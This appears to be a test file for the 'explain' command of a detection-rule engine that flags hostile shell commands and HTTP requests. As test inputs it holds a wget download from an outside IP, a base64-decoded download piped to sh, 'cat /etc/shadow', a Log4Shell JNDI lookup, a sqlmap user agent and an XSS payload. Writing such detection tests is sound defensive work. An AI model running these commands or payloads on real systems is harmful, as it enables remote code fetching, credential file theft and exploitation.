import assert from "assert";
import { directoryWith, runCaptured } from "../../captured_run.ts";
import { ruleText } from "../../../rules/rule_text.ts";

const explain = (...args: readonly string[]) => runCaptured(["explain", ...args]);

Deno.test("explain shows which rules match, and underlines the part that they found", async () => {
  const { code, out } = await explain("cd /tmp; wget http://192.0.2.1/a");
  assert.equal(code, 0);
  assert.match(out, /matches R0012 ingress_tool_transfer\n/);
  const lines = out.split("\n");
  const at = lines.findIndex((line) => /^ +\^+$/.test(line));
  const [text = "", carets = ""] = [lines[at - 1], lines[at]];
  assert.equal(
    text.slice(carets.indexOf("^"), carets.lastIndexOf("^") + 1),
    "wget http://192.0.2.1/a",
  );
  assert.match(out, /T1105 0\.85 {2}Ingress Tool Transfer/);
});

Deno.test("explain tells on which part of a rule the nearest command fails", async () => {
  const { out } = await explain("--rule", "R0012", "wget --version");
  assert.match(out, /no match R0012/);
  assert.match(out, /wget --version fails on args /);
});

Deno.test("explain tells which rules are dismissed for want of a literal", async () => {
  const { out } = await explain("--rule", "R0017", "echo hello");
  assert.match(out, /dismissed R0017 network_service_scan\n {2}none of .*nmap/);
});

Deno.test("explain follows what a command decodes and runs", async () => {
  const { out } = await explain(
    "--rule",
    "R0012",
    "echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh",
  );
  assert.match(out, /matches R0012 .*decodes and runs/);
});

Deno.test("explain --json gives every group and condition", async () => {
  const { out } = await explain("--json", "--rule", "R0013", "--rule", "R0014", "cat /etc/shadow");
  const { input, rules } = JSON.parse(out);
  assert.equal(input, "cat /etc/shadow");
  assert.deepEqual(rules.map((rule: { matched: boolean }) => rule.matched), [false, true]);
  const [condition] = rules[1].groups[0].conditions.filter((one: { holds: boolean }) => one.holds);
  assert.deepEqual(condition.span, { start: 0, end: 15 });
  assert.deepEqual(rules[1].emissions[0].outcome, "written");
});

Deno.test("explain takes requests and other kinds", async () => {
  const request = await explain(
    "--kind",
    "http_request",
    "--rule",
    "R0008",
    "/?x=${jndi:ldap://192.0.2.1/a}",
  );
  assert.match(request.out, /matches R0008/);
  const payload = await explain(
    "--kind",
    "http_request",
    "--rule",
    "R0007",
    '{"user_agent":"sqlmap/1.7"}',
  );
  assert.match(payload.out, /matches R0007/);
});

Deno.test("explain shows why a group none keeps a rule from matching", async () => {
  using rules = directoryWith({
    "R0901.yaml": ruleText({
      rule_id: "R0901",
      match: "{ pattern: 'find', none: [{ contains: '/tmp' }] }",
    }),
  });
  const { out } = await explain("--rules", rules.path, "--rule", "R0901", "find /tmp");
  assert.match(out, /no match R0901/);
  assert.match(out, /none: contains \/tmp holds, and should not/);
});

Deno.test("explain refuses a rule that there is not", async () => {
  const { code, err } = await explain("--rule", "R0000", "id");
  assert.equal(code, 2);
  assert.match(err, /no rule R0000/);
});

Deno.test("explain shows a match that does not count, and which exception holds", async () => {
  using rules = directoryWith({
    "OWN.yaml": ruleText({
      rule_id: "OWN",
      match: "{ pattern: frobnicate }",
      except: "[{ name: own_host, match: { contains: localhost } }]",
    }),
    "exceptions.yaml": "- { rules: [OWN], command: build, reason: the build server }\n",
  });
  const explain = (text: string, ...more: string[]) =>
    runCaptured(["explain", "--rule", "OWN", "--rules", rules.path, ...more, text]);
  const own = await explain("frobnicate localhost");
  assert.match(own.out, /does not count: the rule's exception own_host/);
  assert.match(own.out, /not written: excepted/);
  const operator = await explain("frobnicate build", "--json");
  const [rule] = JSON.parse(operator.out).rules;
  assert.deepEqual(rule.excepted_by, { from: "operator", name: "the build server" });
  assert.equal(rule.emissions[0].outcome, "excepted");
  const none = await explain("frobnicate", "--json");
  assert.equal(JSON.parse(none.out).rules[0].excepted_by, null);
});

Deno.test("explain shows what was found in the field that the condition looks at", async () => {
  const { out } = await runCaptured([
    "explain",
    "--kind",
    "http_request",
    "--rule",
    "R0400",
    '{"raw_url": "/", "body": "a=%3Cscript%3Ealert(1)%3C/script%3E"}',
  ]);
  assert.match(out, /a=<script>alert\(1\)/);
});
